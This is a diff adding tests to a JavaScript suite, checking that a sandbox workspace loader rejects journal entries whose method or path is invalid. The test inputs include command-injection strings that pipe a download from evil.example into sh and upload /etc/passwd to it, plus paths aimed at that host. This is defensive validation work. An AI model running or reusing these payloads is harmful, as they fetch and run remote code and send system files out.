@@ -292,6 +292,30 @@ describe("a bundle's counts are checked before its records", () => {
     expect(Object.keys(res.body.errors)).toEqual(['journal']);
   });
 
+  it("When a journal entry's method is no HTTP method (words and shell syntax the inspector's copy as curl would paste into a terminal), then 422 names it", async () => {
+    const h = await hostedApp({ workspaceCreatePerMinute: 100 });
+    const b = await emptyBundle(h.app);
+    for (const method of ['GET $(A=CURL;${A,,} -s https://evil.example|sh) #', 'get', 'GET -T /etc/passwd https://evil.example/']) {
+      await loadRefused(h, { ...b, journal: [{ ...journalEntry(0, null), method }] }, (f) => f === 'journal.0.method');
+    }
+  });
+
+  it("When a journal entry's path does not start with / (another host's URL for the inspector's send again), then 422 names it", async () => {
+    const h = await hostedApp({ workspaceCreatePerMinute: 100 });
+    const b = await emptyBundle(h.app);
+    for (const path of ['@evil.example/steal', 'https://evil.example/steal', '', '*x']) {
+      await loadRefused(h, { ...b, journal: [{ ...journalEntry(0, null), path }] }, (f) => f === 'journal.0.path');
+    }
+  });
+
+  it('When a journal entry has a method the HTTP parser takes (M-SEARCH, PROPFIND), then it loads', async () => {
+    const h = await hostedApp({ workspaceCreatePerMinute: 100 });
+    const b = await emptyBundle(h.app);
+    b.journal = ['M-SEARCH', 'PROPFIND'].map((method, i) => ({ ...journalEntry(i, null), method }));
+    const res = await request(h.app).post('/_sandbox/workspaces').send(b);
+    expect(res.status, res.text.slice(0, 300)).toBe(201);
+  });
+
   it('When coverage lists a status twice, an operation twice, or an undocumented status as answered, then 422 names it', async () => {
     const h = await hostedApp({ workspaceCreatePerMinute: 100 });
     const cases = [
